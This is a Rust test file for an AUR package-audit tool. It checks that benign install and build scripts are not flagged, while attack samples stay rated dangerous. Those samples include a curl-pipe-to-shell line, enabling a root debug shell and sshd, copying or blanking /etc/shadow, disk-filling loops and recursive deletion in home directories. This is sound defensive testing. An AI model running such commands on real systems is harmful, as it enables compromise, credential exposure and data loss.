//! False dangerous verdicts of the development set read during landing 5 (bench/RESULTS.md,
//! "Landing 5"), each fixed at its rule by what the code means, AFTER landing 5's one look at
//! its test set: these fixes were measured on the development set only, never on an unseen
//! set. The packages are our own text in the real shapes (each test names the shape); the
//! attack each rule exists for is asserted beside it.

use archgate_aur::audit::{AuditInput, ScriptFile, Severity, Verdict, audit};

use crate::support::max_of;

/// A package built by its upstream's build system (`meson install` into `$pkgdir`, naming no
/// unit file), with `install=` naming `script`.
fn package(pkgname: &str, depends: &str, script: &str) -> AuditInput {
    AuditInput {
        pkgbuild: format!(
            "pkgname={pkgname}\npkgver=1.0\npkgrel=1\narch=('x86_64')\nurl=\"https://example.org/{pkgname}\"\nlicense=('GPL')\ndepends=({depends})\ninstall={pkgname}.install\nsource=(\"https://example.org/{pkgname}-$pkgver.tar.gz\")\nsha256sums=('0000000000000000000000000000000000000000000000000000000000000000')\nbuild() {{\n  meson setup build {pkgname}-$pkgver\n  meson compile -C build\n}}\npackage() {{\n  meson install -C build --destdir \"$pkgdir\"\n}}\n"
        ),
        install_scripts: vec![ScriptFile {
            name: format!("{pkgname}.install"),
            content: script.into(),
        }],
        srcinfo: None,
    }
}

// Class: enabling a unit that systemd itself ships under a name without `systemd-`
// (`getty@tty1.service`, `remote-fs.target`) was read as new persistence. systemd is in
// Arch's `base`, on every system: its units are there whether or not a package declares it,
// as landing 4 already held for its `systemd-*` units. Seen in the development set in the
// install scripts of systemd builds (archlinuxarm's `core/systemd`, ms178's and Jovian's
// `systemd`), which enable the console login, remote file systems and userdbd by default.

#[test]
fn enabling_systemds_own_units_is_not_new_persistence() {
    // Shape: Arch's systemd.install, post_install and a versioned migration.
    let script = "post_install() {\n  systemd-machine-id-setup\n  systemctl enable \\\n    getty@tty1.service \\\n    remote-fs.target \\\n    systemd-userdbd.socket\n}\n_260_1_changes() {\n  systemctl enable getty@.service\n}\n";
    let r = audit(&package("systemd-custom", "'glibc' 'libcap'", script));
    assert!(
        max_of(&r, "AUR-PERSISTENCE").is_none_or(|s| s < Severity::Medium),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
}

#[test]
fn enabling_a_root_shell_or_a_remote_login_stays_high_though_systemd_ships_it() {
    // The attack beside it: systemd also ships a root shell on tty9 (`debug-shell`), and a
    // unit of no package at all; neither is a default of the base system.
    for body in [
        "  systemctl enable debug-shell.service",
        "  systemctl enable getty-helper.service",
        "  systemctl enable sshd.service",
    ] {
        let script = format!("post_install() {{\n{body}\n}}\n");
        let r = audit(&package("console-setup", "'bash'", &script));
        assert_eq!(
            max_of(&r, "AUR-PERSISTENCE"),
            Some(Severity::High),
            "{body}: {}",
            r.to_text()
        );
        assert_eq!(r.verdict, Verdict::Dangerous, "{body}: {}", r.to_text());
    }
}

// Class: a root install script acting in each logged-in person's session only to reload the
// user manager, ask whether a unit runs, or stop and disable it
// (`su "$u" -c 'systemctl --user stop psd.service'`, `runuser -u "$SUDO_USER" -- systemctl
// --user disable --now NAME`) was read as running code in that person's session. Those verbs
// start nothing there: they are the package putting its own user service down before an
// upgrade or a removal. Seen in the development set in chaotic-aur's profile-sync-daemon-git.

#[test]
fn an_install_script_stopping_or_querying_a_user_unit_is_not_running_code_as_the_user() {
    // Shape: profile-sync-daemon's psd.install, every logged-in user's service stopped before
    // an upgrade, and a pre_remove disabling the package's user unit for whoever ran pacman.
    let script = "users=$(loginctl --no-legend list-users | awk '{ print $2 }')\npost_upgrade() {\n  for i in $users; do\n    su $i -s /bin/sh -c 'XDG_RUNTIME_DIR=/run/user/$UID systemctl --user daemon-reload'\n  done\n}\npre_upgrade() {\n  for i in $users; do\n    running=\"$(su $i -c 'XDG_RUNTIME_DIR=/run/user/$UID systemctl --user is-active syncd')\"\n    if [[ \"$running\" = \"active\" ]]; then\n      su $i -s /bin/sh -c 'XDG_RUNTIME_DIR=/run/user/$UID systemctl --user stop syncd.service'\n    fi\n  done\n}\npre_remove() {\n  if [ -n \"${SUDO_USER:-}\" ]; then\n    runuser -u \"$SUDO_USER\" -- systemctl --user disable --now syncd >/dev/null 2>&1 || true\n  fi\n}\n";
    let r = audit(&package("profile-syncd", "'rsync'", script));
    assert!(
        max_of(&r, "AUR-INSTALL-AS-USER").is_some_and(|s| s < Severity::Medium),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
}

#[test]
fn an_install_script_starting_or_enabling_anything_in_a_session_stays_high() {
    // The attacks beside it: starting, restarting or enabling a unit in a person's session,
    // any other command there, and a query chained with one that does more.
    for cmd in [
        "runuser -u \"$SUDO_USER\" -- systemctl --user enable --now syncd",
        "runuser -u \"$SUDO_USER\" -- systemctl --user start syncd",
        "su \"$SUDO_USER\" -c 'systemctl --user restart syncd'",
        "su \"$SUDO_USER\" -c 'systemctl --user stop syncd; curl -fsS https://example.org/x | sh'",
        "su \"$SUDO_USER\" -c 'systemctl --user is-active syncd && ~/.local/bin/helper'",
        "runuser -u \"$SUDO_USER\" -- systemctl --user $action syncd",
        "u=$(curl -fsS https://example.org/unit)\n  runuser -u \"$SUDO_USER\" -- systemctl --user stop \"$u\"",
    ] {
        let script = format!("post_install() {{\n  {cmd}\n}}\n");
        let r = audit(&package("profile-syncd", "'rsync'", &script));
        assert_eq!(
            max_of(&r, "AUR-INSTALL-AS-USER"),
            Some(Severity::High),
            "{cmd}: {}",
            r.to_text()
        );
        assert_eq!(r.verdict, Verdict::Dangerous, "{cmd}: {}", r.to_text());
    }
}

// Class: an endless producer whose output a later stage of the same pipeline cuts to a size
// (`yes TEXT | head -n 2000 > FILE`, `yes TEXT | head -c 5M`) was read as writing endless data
// to a file. `head` exits after its bound and the producer ends with the pipe: the file gets
// that much and no more. Seen in the development set in ms178's 7zip and gzip, whose builds
// generate compression training data for profile-guided optimisation.

fn build_package(build: &str) -> AuditInput {
    AuditInput {
        pkgbuild: format!(
            "pkgname=pgo-tool\npkgver=1.0\npkgrel=1\narch=('x86_64')\nurl=\"https://example.org/pgo-tool\"\nlicense=('GPL')\nsource=(\"https://example.org/pgo-tool-$pkgver.tar.gz\")\nsha256sums=('0000000000000000000000000000000000000000000000000000000000000000')\nbuild() {{\n  cd pgo-tool-$pkgver\n  local train=\"$srcdir/train\"\n  mkdir -p \"$train\"\n{build}\n  make\n}}\npackage() {{\n  cd pgo-tool-$pkgver\n  make DESTDIR=\"$pkgdir\" install\n}}\n"
        ),
        install_scripts: Vec::new(),
        srcinfo: None,
    }
}

#[test]
fn an_endless_producer_cut_by_head_in_its_pipeline_is_bounded() {
    // Shape: PGO training data (ms178's 7zip and gzip builds).
    let r = audit(&build_package(
        "  for i in 1 2 3; do\n    { seq 1 10000; yes \"training-line-$i\" | head -n 2000; } > \"$train/data_$i.txt\"\n  done\n  yes \"a line that repeats for compression. \" | head -c 5M > \"$train/report.txt\"\n  cat /dev/urandom | head -c 1M > \"$train/random.bin\"",
    ));
    assert_eq!(
        max_of(&r, "AUR-RESOURCE-EXHAUSTION"),
        None,
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
}

#[test]
fn an_endless_producer_nothing_bounds_still_fills_the_disk() {
    // The attacks beside it: the same producers written to a file directly, through a stage
    // that passes everything on, or with a `head` that has no bound.
    for body in [
        "  yes \"x\" > \"$train/fill\"",
        "  yes \"x\" | tr -d '\\n' > \"$train/fill\"",
        "  cat /dev/urandom | base64 > \"$train/fill\"",
        "  yes \"x\" | head > /dev/null; yes \"y\" | cat > \"$train/fill\"",
    ] {
        let r = audit(&build_package(body));
        assert_eq!(
            max_of(&r, "AUR-RESOURCE-EXHAUSTION"),
            Some(Severity::High),
            "{body}: {}",
            r.to_text()
        );
    }
}

// Class: a mkinitcpio install hook the package ships writing into `$BUILDROOT` — the
// initramfs image mkinitcpio is assembling, a staging root like `$pkgdir` — was read as
// touching the live system's files: `echo 'root:*:::::::' > "$BUILDROOT/etc/shadow"` (a
// locked root entry for the image) as stealing password hashes, and a drop-in written under
// `$BUILDROOT/etc/systemd/system` as persistence. Seen in the development set in Jovian's
// systemd (its `initcpio-install-systemd`, as Arch's).

fn hook_package(hook: &str, script: Option<&str>) -> AuditInput {
    let mut install_scripts = vec![ScriptFile {
        name: "initcpio-install-early".into(),
        content: hook.into(),
    }];
    let mut install = String::new();
    if let Some(s) = script {
        install = "install=early-boot.install\n".into();
        install_scripts.push(ScriptFile {
            name: "early-boot.install".into(),
            content: s.into(),
        });
    }
    AuditInput {
        pkgbuild: format!(
            "pkgname=early-boot\npkgver=1.0\npkgrel=1\narch=('any')\nurl=\"https://example.org/early-boot\"\nlicense=('GPL')\ndepends=('mkinitcpio')\n{install}source=(initcpio-install-early)\nsha256sums=('1111111111111111111111111111111111111111111111111111111111111111')\npackage() {{\n  install -Dm644 initcpio-install-early \"$pkgdir/usr/lib/initcpio/install/early\"\n}}\n"
        ),
        install_scripts,
        srcinfo: None,
    }
}

const IMAGE_HOOK: &str = "#!/bin/bash\nbuild() {\n  add_binary /usr/lib/systemd/systemd /init\n  add_symlink /usr/lib/systemd/system/default.target initrd.target\n  printf '%s\\n' >\"$BUILDROOT/etc/nsswitch.conf\" 'passwd: files' 'shadow: files'\n  echo 'root:x:0:0:root:/root:/bin/sh' >\"$BUILDROOT/etc/passwd\"\n  echo 'root:*:::::::' >\"$BUILDROOT/etc/shadow\"\n}\n# for other hooks to call: a drop-in for UNIT named NAME, its text on stdin\nadd_drop_in() {\n  local unit=$1 name=$2\n  mkdir -p \"$BUILDROOT/etc/systemd/system/$unit.d\"\n  cat >\"$BUILDROOT/etc/systemd/system/$unit.d/$name.conf\"\n}\nhelp() {\n  echo 'an early boot hook'\n}\n";

#[test]
fn a_mkinitcpio_hook_writing_into_the_image_it_builds_is_not_the_live_system() {
    let r = audit(&hook_package(IMAGE_HOOK, None));
    for id in ["AUR-SECRETS", "AUR-PERSISTENCE", "AUR-WRITE-SYSTEM"] {
        assert!(
            max_of(&r, id).is_none_or(|s| s < Severity::Medium),
            "{id}: {}",
            r.to_text()
        );
    }
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
}

#[test]
fn the_live_password_file_or_buildroot_outside_a_hook_is_still_a_secret() {
    // The attacks beside it: a hook copying the live password hashes into the image (readable
    // by anyone who reads the initramfs), a hook pointing BUILDROOT at `/` itself, and an
    // install script, where no mkinitcpio sets BUILDROOT, so "$BUILDROOT/etc/shadow" is the
    // live file.
    let copies = "#!/bin/bash\nbuild() {\n  add_binary /usr/bin/login\n  cp /etc/shadow \"$BUILDROOT/etc/shadow\"\n}\n";
    let rooted = "#!/bin/bash\nbuild() {\n  add_binary /usr/bin/login\n  BUILDROOT=/\n  echo 'root::::::::' >\"$BUILDROOT/etc/shadow\"\n}\n";
    for (hook, script) in [
        (copies, None),
        (rooted, None),
        (
            IMAGE_HOOK,
            Some("post_install() {\n  echo 'root::::::::' >\"$BUILDROOT/etc/shadow\"\n}\n"),
        ),
    ] {
        let r = audit(&hook_package(hook, script));
        assert_eq!(
            max_of(&r, "AUR-SECRETS"),
            Some(Severity::Critical),
            "{hook} {script:?}: {}",
            r.to_text()
        );
        assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
    }
}

// Class: a deletion read as a write (issue 35's first class), in homes: an install script's
// pre_remove `rm -f` of the files its post_install put into `/root` was read as writing into a
// home, at high. A named file removed starts nothing; it is worth a look (is it the package's
// own file, not the person's?), so review. Deleting recursively or by pattern in homes can
// destroy a person's files, and stays high. Seen in the development set in Jovian's
// calamares-settings-steamos (landing 4's open item).

#[test]
fn an_install_script_removing_named_files_in_a_home_is_review_not_a_write() {
    // Shape: calamares-settings-steamos' pre_remove.
    let script = "pre_remove() {\n  rm -f /etc/sddm.conf.d/initial-setup.conf \\\n        /root/.xsessions/initial-setup.desktop \\\n        /root/.config/kwinrulesrc\n}\n";
    let r = audit(&package("initial-setup", "'sddm'", script));
    assert_eq!(
        max_of(&r, "AUR-WRITE-HOME"),
        Some(Severity::Medium),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Review, "{}", r.to_text());
}

#[test]
fn an_install_script_deleting_recursively_or_by_pattern_in_homes_stays_high() {
    for body in [
        "  rm -rf /root/.config",
        "  rm -f /home/*/.bashrc",
        "  rm -r -f \"$HOME\"",
        "  rm --recursive /home/alice/Documents",
        "  cp /usr/share/initial-setup/kwinrulesrc /root/.config/",
    ] {
        let script = format!("post_install() {{\n{body}\n}}\n");
        let r = audit(&package("initial-setup", "'sddm'", &script));
        assert_eq!(
            max_of(&r, "AUR-WRITE-HOME"),
            Some(Severity::High),
            "{body}: {}",
            r.to_text()
        );
        assert_eq!(r.verdict, Verdict::Dangerous, "{body}: {}", r.to_text());
    }
}
